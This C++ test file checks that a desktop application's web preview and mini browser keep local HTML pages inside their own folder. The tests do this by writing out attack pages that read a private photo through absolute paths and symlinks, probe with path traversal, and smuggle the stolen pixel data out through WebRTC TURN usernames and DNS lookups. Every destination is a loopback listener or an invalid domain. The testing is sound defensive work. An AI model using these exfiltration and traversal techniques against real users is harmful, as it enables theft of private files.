// A local page, previewed or opened in the mini browser, loads only what lies
// in its own folder, and nothing it learns leaves the machine: tried as an
// attacker's page would, through the real pane, window and engine.
#include <dlfcn.h>
#include <netdb.h>
#include <sys/stat.h>
#include <unistd.h>

#include <mutex>
#include <string>
#include <vector>

#include <QAction>
#include <QComboBox>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QLineEdit>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QUdpSocket>
#include <QWebEngineView>

#include "ScreenSupport.h"
#include "WebSupport.h"
#include "app/ui/Navigator.h"
#include "display/ui/WebPane.h"
#include "support/TestSupport.h"
#include "viewers/MiniWebBrowser.h"

namespace {

// Every name the engine looks up goes through here (its network service runs
// in this process). Names under the probe domain are noted and answered as
// unknown without asking any resolver, so nothing leaves even when a page
// gets one looked up.
const char kProbeDomain[] = ".orbet-probe.invalid";
std::mutex lookupsLock;
std::vector<std::string> probeLookups;

} // namespace

extern "C" int getaddrinfo(const char* node, const char* service, const struct addrinfo* hints,
                           struct addrinfo** result) {
    if (node && std::string(node).find(kProbeDomain) != std::string::npos) {
        const std::lock_guard<std::mutex> hold(lookupsLock);
        probeLookups.emplace_back(node);
        return EAI_NONAME;
    }
    using Lookup = int (*)(const char*, const char*, const struct addrinfo*, struct addrinfo**);
    static const auto real = reinterpret_cast<Lookup>(dlsym(RTLD_NEXT, "getaddrinfo"));
    return real(node, service, hints, result);
}

namespace orbet::test {
namespace {

std::vector<std::string> lookupsSoFar() {
    const std::lock_guard<std::mutex> hold(lookupsLock);
    return probeLookups;
}

QString joined(const std::vector<std::string>& names) {
    QStringList list;
    for (const std::string& n : names)
        list << QString::fromStdString(n);
    return list.join(' ');
}

// Loopback listeners of the test's own, UDP and TCP, that count what comes.
class Listeners {
  public:
    Listeners() {
        EXPECT_TRUE(udp_.bind(QHostAddress::LocalHost, 0));
        EXPECT_TRUE(tcp_.listen(QHostAddress::LocalHost));
        QObject::connect(&udp_, &QUdpSocket::readyRead, [this] {
            while (udp_.hasPendingDatagrams()) {
                QByteArray d(int(udp_.pendingDatagramSize()), '\0');
                udp_.readDatagram(d.data(), d.size());
                ++datagrams_;
            }
        });
        QObject::connect(&tcp_, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = tcp_.nextPendingConnection()) {
                ++connections_;
                s->close();
            }
        });
    }
    QByteArray udpPort() const { return QByteArray::number(udp_.localPort()); }
    QByteArray tcpPort() const { return QByteArray::number(tcp_.serverPort()); }
    int datagrams() const { return datagrams_; }
    int connections() const { return connections_; }

  private:
    QUdpSocket udp_;
    QTcpServer tcp_;
    int datagrams_ = 0;
    int connections_ = 0;
};

// The attack: reads a picture by its absolute path and through a link beside
// the page, draws with script, and sends what it read, with the page's own
// path, in a TURN user name: over UDP and TCP from the page, over UDP from a
// fresh frame of its own (where only the engine's switch holds). The title:
// "done", then what each read gave.
QByteArray attackPage(const QString& farPicture, const Listeners& to) {
    const QByteArray udp = "turn:127.0.0.1:" + to.udpPort() + "?transport=udp";
    const QByteArray stun = "stun:127.0.0.1:" + to.udpPort();
    const QByteArray tcp = "turn:127.0.0.1:" + to.tcpPort() + "?transport=tcp";
    return "<html><body style='margin:0'>"
           "<img src='own.png' style='position:absolute;left:0;top:0;width:80px;height:80px'>"
           "<canvas id='c' width='80' height='80' style='position:absolute;left:100px;top:0'></canvas>"
           "<img src='http://127.0.0.1:" +
           to.tcpPort() +
           "/img' style='display:none'>"
           "<script>\n"
           "var g = document.getElementById('c').getContext('2d');"
           " g.fillStyle = 'rgb(0,0,255)'; g.fillRect(0, 0, 80, 80);\n"
           "function grab(src){ return new Promise(function(done){ var i = new Image();"
           " i.onload = function(){ try { var c = document.createElement('canvas'); c.width = c.height = 4;"
           " var x = c.getContext('2d'); x.drawImage(i, 0, 0); var d = x.getImageData(0, 0, 1, 1).data;"
           " done('read:' + d[0] + ',' + d[1] + ',' + d[2]); } catch (e) { done('tainted'); } };"
           " i.onerror = function(){ done('error'); }; i.src = src; }); }\n"
           "function send(w, urls, data){ try { var pc = new w.RTCPeerConnection({iceServers: [{urls: urls,"
           " username: data, credential: 'x'}]}); pc.createDataChannel('d');"
           " pc.createOffer().then(function(o){ return pc.setLocalDescription(o); }); return 'sent'; }"
           " catch (e) { return 'none'; } }\n"
           "Promise.all([grab('orbet-page:" +
           QUrl::toPercentEncoding(farPicture, "/") + "'), grab('" +
           QUrl::toPercentEncoding(farPicture, "/") +
           "'), grab('link.png')]).then(function(r){\n"
           " var data = r.join('-') + location.pathname;\n"
           " var f = document.createElement('iframe'); document.body.appendChild(f);\n"
           " r.push(send(window, ['" +
           udp + "', '" + stun + "', '" + tcp + "'], data), send(f.contentWindow, ['" + udp + "', '" + stun +
           "'], data));\n"
           " setTimeout(function(){ document.title = 'done ' + r.join(' '); }, 3000); });\n"
           "</script></body></html>";
}

class PageFolderTest : public ScreenTest {
  protected:
    QString folder(const QString& name) {
        const QString dir = QDir(data_.path()).filePath(name);
        QDir().mkpath(dir);
        return dir;
    }
    void preview(const QString& dir) {
        form_->navigator().OpenFolder(dir);
        QSignalSpy loaded(form_->WB1, &WebPane::loadFinished);
        form_->Combo1->setCurrentIndex(9);
        ASSERT_TRUE(form_->WB1->hasEngine());
        if (loaded.isEmpty()) {
            ASSERT_TRUE(loaded.wait(30000));
        }
    }
    MinWeb* browse(const QString& address) {
        form_->action(Command::MiniWebGo)->trigger();
        MinWeb* web = form_->miniWeb();
        if (!web) return nullptr;
        web->Text1->setText(address);
        QTest::keyClick(web->Text1, Qt::Key_Return);
        return web;
    }
    // A private photo in a folder of its own, and the attacker's folder with
    // its page, its own picture and a link named like a picture to the photo.
    QString attackFolder(const Listeners& listeners) {
        const QString photos = home(QStringLiteral("photos"));
        QDir().mkpath(photos);
        const QString photo = QDir(photos).filePath(QStringLiteral("private.png"));
        QImage secret(8, 8, QImage::Format_RGB32);
        secret.fill(QColor(12, 34, 56));
        EXPECT_TRUE(secret.save(photo));
        EXPECT_EQ(::chmod(QFile::encodeName(photo).constData(), 0600), 0);
        const QString dir = folder(QStringLiteral("attack"));
        QImage own(80, 80, QImage::Format_RGB32);
        own.fill(QColor(0, 255, 0));
        EXPECT_TRUE(own.save(QDir(dir).filePath(QStringLiteral("own.png"))));
        EXPECT_EQ(::symlink(QFile::encodeName(photo).constData(),
                            QFile::encodeName(QDir(dir).filePath(QStringLiteral("link.png"))).constData()),
                  0);
        EXPECT_TRUE(writeAll(QDir(dir).filePath(QStringLiteral("page.html")), attackPage(photo, listeners)));
        return dir;
    }
    // The attack's outcome, and that the page still drew its own.
    void expectNothingReadOrSent(QWidget* view, const Listeners& listeners) {
        const QString title = waitForTitle(view, QStringLiteral("done"), 30000);
        ASSERT_TRUE(title.startsWith(QLatin1String("done"))) << title.toStdString();
        EXPECT_TRUE(title.startsWith(QLatin1String("done error error error"))) << title.toStdString();
        QTest::qWait(2000); // anything late would have arrived by now
        EXPECT_EQ(listeners.datagrams(), 0) << title.toStdString();
        EXPECT_EQ(listeners.connections(), 0) << title.toStdString();
        EXPECT_TRUE(waitForScreenColour(view->mapToGlobal(QPoint(40, 40)), QColor(0, 255, 0)))
            << "own picture: " << screenColour(view->mapToGlobal(QPoint(40, 40))).name().toStdString();
        EXPECT_TRUE(waitForScreenColour(view->mapToGlobal(QPoint(140, 40)), QColor(0, 0, 255)))
            << "drawing: " << screenColour(view->mapToGlobal(QPoint(140, 40))).name().toStdString();
    }
};

TEST_F(PageFolderTest, APreviewedPageReadsNoPictureOutsideItsFolderAndSendsNothing) {
    Listeners listeners;
    const QByteArray flags = qgetenv("QTWEBENGINE_CHROMIUM_FLAGS");
    preview(attackFolder(listeners));
    expectNothingReadOrSent(form_->WB1->view(), listeners);
    // What the engine was told at its start, programs started from here are not.
    EXPECT_EQ(qgetenv("QTWEBENGINE_CHROMIUM_FLAGS"), flags);
}

TEST_F(PageFolderTest, ALocalPageInTheMiniBrowserIsUnderTheSameRules) {
    Listeners listeners;
    const QString dir = attackFolder(listeners);
    MinWeb* web = browse(QDir(dir).filePath(QStringLiteral("page.html")));
    ASSERT_NE(web, nullptr);
    web->resize(900, 700);
    expectNothingReadOrSent(web->Web, listeners);

    // A remote address typed afterwards is browsed as before, scripts and
    // their peer connections whole.
    QTcpServer remote;
    ASSERT_TRUE(remote.listen(QHostAddress::LocalHost));
    QObject::connect(&remote, &QTcpServer::newConnection, [&remote] {
        while (QTcpSocket* s = remote.nextPendingConnection())
            QObject::connect(s, &QTcpSocket::readyRead, s, [s] {
                s->readAll();
                const QByteArray body =
                    "<html><body><script>document.title = 'remote ' + typeof RTCPeerConnection;</script>";
                s->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " +
                         QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
                s->disconnectFromHost();
            });
    });
    web->Text1->setText(QStringLiteral("http://127.0.0.1:%1/").arg(remote.serverPort()));
    QTest::keyClick(web->Text1, Qt::Key_Return);
    EXPECT_EQ(waitForTitle(web->Web, QStringLiteral("remote")).toStdString(), "remote function");
}

TEST_F(PageFolderTest, TheMiniBrowserCarriesNobodyBetweenLocalAndRemote) {
    // A remote page that sends the browser to a local page, and a local page
    // that sends it to a remote address (what it read in the address).
    QTcpServer remote;
    ASSERT_TRUE(remote.listen(QHostAddress::LocalHost));
    const QString dir = folder(QStringLiteral("jumps"));
    const QString local = QDir(dir).filePath(QStringLiteral("target.html"));
    ASSERT_TRUE(writeAll(local, "<html><body><script>document.title = 'local reached';</script>"));
    QStringList asked;
    QObject::connect(&remote, &QTcpServer::newConnection, [&] {
        while (QTcpSocket* s = remote.nextPendingConnection())
            QObject::connect(s, &QTcpSocket::readyRead, s, [s, &asked, &local] {
                asked << QString::fromLatin1(s->readAll().split(' ').value(1));
                const QByteArray body =
                    "<html><body><script>location.href = 'orbet-page:" + QUrl::toPercentEncoding(local, "/") +
                    "';</script>";
                s->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " +
                         QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
                s->disconnectFromHost();
            });
    });
    MinWeb* web = browse(QStringLiteral("http://127.0.0.1:%1/jump").arg(remote.serverPort()));
    ASSERT_NE(web, nullptr);
    // It goes no further than the refusal, whose title is the address.
    QElapsedTimer t;
    t.start();
    while (!engineView(web->Web)->title().contains(QLatin1String("target.html")) &&
           engineView(web->Web)->title() != QLatin1String("local reached") && t.elapsed() < 20000)
        QTest::qWait(50);
    QTest::qWait(1000);
    EXPECT_TRUE(engineView(web->Web)->title().contains(QLatin1String("target.html")))
        << engineView(web->Web)->title().toStdString();

    const QString leaver = QDir(dir).filePath(QStringLiteral("leaver.html"));
    ASSERT_TRUE(writeAll(leaver, "<html><body><script>\n"
                                 "location.href = 'http://127.0.0.1:" +
                                     QByteArray::number(remote.serverPort()) +
                                     "/away' + location.pathname;\n"
                                     "setTimeout(function(){ document.title = 'stayed'; }, 1500);\n"
                                     "</script></body></html>"));
    asked.clear();
    web->Text1->setText(leaver);
    QTest::keyClick(web->Text1, Qt::Key_Return);
    EXPECT_EQ(waitForTitle(web->Web, QStringLiteral("stayed")).toStdString(), "stayed");
    EXPECT_TRUE(asked.isEmpty()) << asked.join(' ').toStdString();
}

TEST_F(PageFolderTest, APageCannotTellWhetherAFileOutsideItsFolderExists) {
    const QString dir = folder(QStringLiteral("prober"));
    QDir(dir).mkdir(QStringLiteral("sub"));
    ASSERT_TRUE(writeAll(QDir(dir).filePath(QStringLiteral("sub/inner.js")), "var inner = 1;"));
    ASSERT_TRUE(writeAll(data_.path() + QStringLiteral("/beside.js"), "var beside = 1;"));
    const QString far = home(QStringLiteral("far.js"));
    ASSERT_TRUE(writeAll(far, "var far = 1;"));
    const QByteArray farPath = QFile::encodeName(far);
    ASSERT_EQ(::symlink(farPath.constData(), QFile::encodeName(QDir(dir).filePath("out.js")).constData()), 0);
    ASSERT_EQ(::symlink("sub/inner.js", QFile::encodeName(QDir(dir).filePath("in.js")).constData()), 0);
    ASSERT_EQ(::mkfifo(QFile::encodeName(QDir(dir).filePath("pipe.js")).constData(), 0600), 0);
    // Each probe's outcome in the title, in order; a device or a FIFO must
    // answer at once, not hang the page.
    const QList<QByteArray> probes = {"sub/inner.js", "sub/none.js",      "sub/../sub/inner.js",
                                      "in.js", // inside: told apart
                                      farPath,        farPath + "-none",  "out.js",
                                      "../beside.js", "%2e%2e/beside.js", "sub/%2E%2E/%2e%2e/beside.js",
                                      "/dev/zero",    "pipe.js"};
    QByteArray list;
    for (const QByteArray& p : probes)
        list += (list.isEmpty() ? "'" : ",'") + p + "'";
    ASSERT_TRUE(writeAll(QDir(dir).filePath(QStringLiteral("page.html")),
                         "<html><body><script>\n"
                         "var probes = [" +
                             list +
                             "], out = [], left = probes.length;\n"
                             "probes.forEach(function(src, n){ var s = document.createElement('script');"
                             " s.onload = function(){ out[n] = 'load'; if (--left == 0) finish(); };"
                             " s.onerror = function(){ out[n] = 'error'; if (--left == 0) finish(); };"
                             " s.src = src; document.body.appendChild(s); });\n"
                             "function finish(){ document.title = 'done ' + out.join(' '); }\n"
                             "</script></body></html>"));
    preview(dir);
    EXPECT_EQ(waitForTitle(form_->WB1->view(), QStringLiteral("done")).toStdString(),
              "done load error load load error error error error error error error error");
}

TEST_F(PageFolderTest, NoNameAPageChoosesIsLookedUp) {
    // The engine's own look-ups pass the note-taker: a browsed address does.
    MinWeb* web = browse(QStringLiteral("http://sanity") + QLatin1String(kProbeDomain) + QStringLiteral("/"));
    ASSERT_NE(web, nullptr);
    QElapsedTimer t;
    t.start();
    while (lookupsSoFar().empty() && t.elapsed() < 20000)
        QTest::qWait(50);
    ASSERT_FALSE(lookupsSoFar().empty()) << "the engine's look-ups are not seen";
    web->close();
    const size_t before = lookupsSoFar().size();

    // A page puts what it knows into names: STUN and TURN servers (from the
    // page and from a fresh frame), hints, a picture, a socket.
    const QString dir = folder(QStringLiteral("namer"));
    const QByteArray d = QByteArray(kProbeDomain);
    ASSERT_TRUE(writeAll(
        QDir(dir).filePath(QStringLiteral("page.html")),
        "<html><head><link rel='dns-prefetch' href='http://hint" + d +
            "/'>"
            "<link rel='preconnect' href='http://connect" +
            d +
            "/'></head><body>"
            "<img src='http://picture" +
            d +
            "/x.png'><script>\n"
            "var data = location.pathname.replace(/[^a-z0-9]/gi, '');\n"
            "function send(w){ try { var pc = new w.RTCPeerConnection({iceServers: [{urls: ['stun:stun-' + "
            "data + '" +
            d +
            ":3478'], username: 'u', credential: 'c'}]}); pc.createDataChannel('d');"
            " pc.createOffer().then(function(o){ return pc.setLocalDescription(o); }); } catch (e) {} }\n"
            "send(window); var f = document.createElement('iframe'); document.body.appendChild(f);"
            " send(f.contentWindow);\n"
            "try { new WebSocket('ws://socket" +
            d +
            "/'); } catch (e) {}\n"
            "setTimeout(function(){ document.title = 'done'; }, 3000);\n"
            "</script></body></html>"));
    preview(dir);
    EXPECT_EQ(waitForTitle(form_->WB1->view(), QStringLiteral("done")).toStdString(), "done");
    QTest::qWait(2000);
    const std::vector<std::string> after = lookupsSoFar();
    EXPECT_EQ(after.size(), before) << joined({after.begin() + before, after.end()}).toStdString();
}

TEST_F(PageFolderTest, RealPagesStillShow) {
    // A saved page with its pictures and style in its name_files folder, and a
    // frame made of a data: address.
    const QString dir = folder(QStringLiteral("saved"));
    QDir(dir).mkdir(QStringLiteral("page_files"));
    QImage red(80, 80, QImage::Format_RGB32);
    red.fill(QColor(255, 0, 0));
    ASSERT_TRUE(red.save(QDir(dir).filePath(QStringLiteral("page_files/pic.png"))));
    ASSERT_TRUE(writeAll(QDir(dir).filePath(QStringLiteral("page_files/style.css")),
                         "body { background: rgb(0, 0, 255); margin: 0 }"));
    ASSERT_TRUE(writeAll(
        QDir(dir).filePath(QStringLiteral("page.html")),
        "<html><head><link rel='stylesheet' href='page_files/style.css'></head><body>"
        "<img src='page_files/pic.png' style='position:absolute;left:0;top:0;width:80px;height:80px'>"
        "<iframe src=\"data:text/html,<body style='margin:0;background:rgb(0,255,0)'>\""
        " style='position:absolute;left:100px;top:0;width:80px;height:80px;border:0'></iframe>"
        "</body></html>"));
    preview(dir);
    QWidget* view = form_->WB1->view();
    for (const auto& [at, colour] :
         {std::pair{QPoint(40, 40), QColor(255, 0, 0)}, std::pair{QPoint(140, 40), QColor(0, 255, 0)},
          std::pair{QPoint(300, 200), QColor(0, 0, 255)}})
        EXPECT_TRUE(waitForScreenColour(view->mapToGlobal(at), colour))
            << at.x() << "," << at.y() << ": " << screenColour(view->mapToGlobal(at)).name().toStdString();

    // A Shift_JIS page shows its own text.
    const QString sjis = folder(QStringLiteral("sjis"));
    ASSERT_TRUE(QFile::copy(testData("web/chardet_CP932_hardsoft.at.webry.info.html"),
                            QDir(sjis).filePath(QStringLiteral("blog.html"))));
    preview(sjis);
    EXPECT_EQ(waitForTitle(view, QStringLiteral("Perl")),
              QStringLiteral(
                  "Perl 5.8.x で shiftjis 、CP932、MacJapanese の違い ハードなソフトの話/ウェブリブログ"));
}

} // namespace
} // namespace orbet::test
